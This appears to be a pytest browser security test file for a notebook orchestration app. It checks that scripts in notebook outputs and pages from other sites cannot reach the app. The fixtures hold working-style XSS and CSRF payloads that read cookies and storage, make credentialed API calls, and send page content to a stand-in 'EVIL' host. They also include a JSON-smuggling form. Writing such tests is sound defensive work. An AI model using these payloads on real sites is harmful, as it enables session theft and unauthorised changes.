"""Attacks in a real browser: from a notebook's outputs, and from another site's page."""

import json
import threading
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from serving import Served

from nborch.events import run_created, state_entered
from nborch.home import Home
from nborch.runs import Run, RunKind, new_id
from nborch.settings import Settings
from nborch.states import Completed, Running

#: What a notebook might show to reach what is around it. `EVIL` stands for another
#: host, and each attempt leaves word of how it ended in `window.tried`.
ATTACK = """
<script>
window.tried = {};
const attempt = (name, act) => {
  try {
    Promise.resolve(act()).then(
      (value) => { tried[name] = "reached " + value; },
      () => { tried[name] = "refused"; },
    );
  } catch (error) { tried[name] = "refused"; }
};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("api", () => fetch("BASE/api/runs", {credentials: "include"}).then((r) => r.text()));
attempt("blind", () => fetch("BASE/api/cache/clear", {method: "POST", mode: "no-cors", credentials: "include", body: "{}"}).then(() => "sent"));
attempt("stream", () => new Promise((good, bad) => { const s = new EventSource("BASE/api/stream?topics=runs"); s.onopen = good; s.onerror = bad; }));
attempt("evil", () => fetch("EVIL/fetched", {mode: "no-cors"}).then(() => "sent"));
attempt("beacon", () => { if (!navigator.sendBeacon("EVIL/beacon", "x")) throw 0; });
attempt("top", () => { top.location = "EVIL/top"; return new Promise((_, bad) => setTimeout(bad, 300)); });
attempt("popup", () => { if (!window.open("EVIL/popup")) throw 0; });
attempt("worker", () => new Worker("BASE/static/00/graph.js"));
parent.postMessage({nborch: "height", height: 1e15}, "*");
parent.postMessage({nborch: "height", height: "NaN"}, "*");
parent.postMessage({nborch: "cells", changed: [{id: "x", html: "<b>x</b>"}]}, "*");
parent.postMessage("{}", "*");
parent.postMessage(null, "*");
</script>
<img src="EVIL/image" onerror="tried.image = 'refused'">
<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL/svg"/><script>tried.svg = 1</script></svg>
<style>@import url("EVIL/import"); body { background: url("EVIL/background") }</style>
<link rel="stylesheet" href="EVIL/sheet"><link rel="prefetch" href="EVIL/prefetch">
<base href="EVIL/"><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<iframe src="BASE/" onload="tried.within = 'refused'"></iframe>
<a id="l" href="javascript:tried.link = 'ran in here'" target="_top">x</a><img src="relative">
<script>l.click(); window.isDone = true;</script>
"""

#: Ways to leave the frame, with what is in it.
LEAVING = {
    "location": "<script>location = 'EVIL/location?' + document.body.innerText</script>",
    "refresh": "<meta http-equiv='refresh' content='0; url=EVIL/refresh'>",
    "form": "<form id='g' action='EVIL/form' method='post'></form><script>g.submit()</script>",
    "our form": "<form id='f' action='BASE/api/cache/clear' method='post'></form><script>f.submit()</script>",
    "ours": "<script>location = 'BASE/'</script>",
}


class Elsewhere:
    """Another site, which notes who asks it for anything."""

    def __init__(self):
        asked = self.asked = []
        pages = self.pages = {}

        class Noting(BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(pages.get(self.path, "").encode())

            do_POST = do_GET  # noqa: N815  # as the library calls it

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def base(self):
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)


@pytest.fixture(scope="module")
def elsewhere():
    site = Elsewhere()
    yield site
    site.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    with Served(tmp_path_factory.mktemp("served") / "home") as server:
        yield server


@pytest.fixture
def tab(browser, served):
    """A page of a browser that was let in."""
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.goto(served.way_in)
    yield page
    context.close()


def put_run(folder, cells, *, state=None):
    """Store a run whose executed notebook has these cells; return its id."""
    home = Home(Settings(folder, folder / "secret.key"))
    now = datetime.now(UTC)
    path = folder / "shown.ipynb"
    run = Run(
        new_id(now.timestamp()),
        RunKind.FLOW,
        "hostile",
        "hostile-run",
        now,
        "elsewhere:1:x",
        None,
        {"notebook": str(path), "output": str(path)},
    )
    events = [run_created(run), state_entered(run.id, Running().stamped(now), 1)]
    if state is not None:
        events.append(state_entered(run.id, state.stamped(now), 1))
    home.store.append(events)
    home.close()
    write_notebook(path, run.id, cells)
    return run.id, path


def write_notebook(path, run_id, cells):
    document = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"nborch": {"run": run_id}},
        "cells": cells,
    }
    part = path.with_suffix(".part")
    part.write_text(json.dumps(document))
    part.replace(path)


def shown_cell(name, html, **stamp):
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": html},
    }
    return {
        "cell_type": "code",
        "id": name,
        "metadata": {"papermill": {"status": "completed", **stamp}},
        "source": f"show({name!r})",
        "execution_count": 1,
        "outputs": [output],
    }


def test_what_a_notebook_shows_reaches_nobody(tab, served, elsewhere):
    """S27, S58: Scripts of outputs run, and reach neither us, nor the page, nor others."""
    attack = ATTACK.replace("EVIL", elsewhere.base).replace("BASE", served.base)
    run, _ = put_run(served.home, [shown_cell("attack", attack)], state=Completed())
    limit = {"name": "untouched", "slots": 1}
    assert served.post("/api/concurrency-limits", limit).status in {201, 409}

    tab.goto(f"{served.base}/runs/{run}#notebook")
    tab.wait_for_selector("iframe.notebook")
    frame = tab.query_selector("iframe.notebook").content_frame()
    frame.wait_for_function("window.isDone")
    frame.wait_for_function("Object.keys(tried).length >= 12")
    tried = frame.evaluate("tried")

    # A beacon never tells whether it was sent: the other site has not got it.
    reached = {name for name, told in tried.items() if told != "refused"}
    assert reached <= {"svg", "beacon"}, tried
    assert tab.url.startswith(f"{served.base}/runs/{run}")
    assert elsewhere.asked == []
    height = tab.eval_on_selector("iframe.notebook", "(e) => e.offsetHeight")
    assert height <= 2_000_000
    assert tab.locator("main, [role=main]").count() >= 1


@pytest.mark.parametrize("way", LEAVING)
def test_a_frame_leads_nowhere(tab, served, elsewhere, way):
    """S27: A frame cannot take what it shows to somebody else, nor show our pages."""
    html = LEAVING[way].replace("EVIL", elsewhere.base).replace("BASE", served.base)
    run, _ = put_run(served.home, [shown_cell("leaving", html)], state=Completed())
    asked = []
    tab.on("request", lambda request: asked.append((request.method, request.url)))

    tab.goto(f"{served.base}/runs/{run}#notebook")
    tab.wait_for_selector("iframe.notebook")
    tab.wait_for_timeout(700)  # for what must not happen there is nothing to wait for

    assert elsewhere.asked == []
    assert not [each for each in asked if each[0] == "POST"]
    assert tab.url.startswith(f"{served.base}/runs/{run}")
    shown = tab.query_selector("iframe.notebook").content_frame()
    assert "data-base" not in shown.content()


def test_a_frame_that_is_opened_by_itself_has_no_origin(tab, served):
    """S27: The document is nobody's also without a page around it."""
    run, _ = put_run(
        served.home,
        [
            shown_cell(
                "alone", "<script>window.origin_told = self.origin</script><i>x</i>"
            )
        ],
        state=Completed(),
    )

    tab.goto(f"{served.base}/frames/runs/{run}/notebook")
    tab.wait_for_selector("section i")

    assert tab.evaluate("window.origin_told") == "null"
    asked = "fetch('/api/runs').then((r) => r.status, () => 'refused')"
    assert tab.evaluate(asked) == "refused"
    with pytest.raises(Exception, match="sandboxed"):
        tab.evaluate("document.cookie")


def test_a_notebook_grows_cell_by_cell(tab, served):
    """Cells appear and change while the run goes on, and others are left as they are."""
    first = shown_cell("one", "<b id='one'>first</b>")
    run, path = put_run(served.home, [first])
    tab.goto(f"{served.base}/runs/{run}#notebook")
    frame = tab.wait_for_selector("iframe.notebook").content_frame()
    frame.wait_for_selector("#one")
    frame.evaluate("document.getElementById('one').dataset.mark = 'kept'")

    second = shown_cell("two", "<script>window.ran = (window.ran ?? 0) + 1</script>2")
    write_notebook(path, run, [shown_cell("zero", "0"), first, second])

    frame.wait_for_function("window.ran === 1")
    order = frame.eval_on_selector_all(
        "section", "(all) => all.map((e) => e.innerText.trim().slice(-1))"
    )
    assert order == ["0", "t", "2"]
    assert frame.eval_on_selector("#one", "(e) => e.dataset.mark") == "kept"
    write_notebook(path, run, [first])
    frame.wait_for_function("document.querySelectorAll('section').length === 1")


PAGE_OF_ANOTHER = """<!doctype html><title>Another site</title>
<form id="f" action="BASE/api/concurrency-limits" method="post" enctype="text/plain" target="into">
<input name='{"name": "planted", "slots": 1, "x' value='": 1}'></form>
<iframe name="into"></iframe><iframe id="framed" src="BASE/"></iframe>
<a id="link" href="BASE/concurrency-limits">follow</a>
<script>
window.tried = {};
const attempt = (name, act) => act().then((v) => { tried[name] = v; }, () => { tried[name] = "refused"; });
const body = '{"name": "planted", "slots": 1}';
window.go = () => Promise.all([
  attempt("read", () => fetch("BASE/api/runs", {credentials: "include"}).then((r) => r.text())),
  attempt("json", () => fetch("BASE/api/concurrency-limits", {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body}).then((r) => r.text())),
  attempt("blind", () => fetch("BASE/api/concurrency-limits", {method: "POST", mode: "no-cors", credentials: "include", body}).then((r) => r.type)),
  attempt("stream", () => new Promise((good, bad) => { const s = new EventSource("BASE/api/stream?topics=runs", {withCredentials: true}); s.onopen = () => good("opened"); s.onerror = bad; })),
  attempt("script", () => new Promise((good, bad) => { const s = document.createElement("script"); s.src = "BASE/api/runs"; s.onload = () => good("loaded"); s.onerror = bad; document.head.append(s); })),
]).then(() => { document.getElementById("f").submit(); });
</script>"""


def test_another_sites_page_reads_and_changes_nothing(tab, served, elsewhere):
    """S04 to S10: With the user's cookie in the browser, another origin gets nowhere."""
    elsewhere.pages["/page"] = PAGE_OF_ANOTHER.replace("BASE", served.base)

    tab.goto(f"{elsewhere.base}/page")
    tab.evaluate("go()")
    tab.wait_for_timeout(500)

    tried = tab.evaluate("tried")
    assert set(tried.values()) == {"refused"}, tried
    names = [
        each["name"] for each in served.get("/api/concurrency-limits").json["items"]
    ]
    assert "planted" not in names
    framed = tab.query_selector("#framed").content_frame()
    assert framed is None or "nborch" not in (framed.url + framed.content())


def test_a_link_from_another_site_leads_to_the_page(tab, served, elsewhere):
    """Whoever was let in follows a link from elsewhere, and is not asked again."""
    elsewhere.pages["/page"] = PAGE_OF_ANOTHER.replace("BASE", served.base).replace(
        "127.0.0.1", "localhost"
    )
    tab.goto(served.way_in.replace("127.0.0.1", "localhost"))

    tab.goto(f"{elsewhere.base}/page")
    tab.click("#link")

    tab.wait_for_url("**/concurrency-limits")
    tab.wait_for_selector("[data-base] main, main")
    assert tab.title().startswith("Concurrency limits")
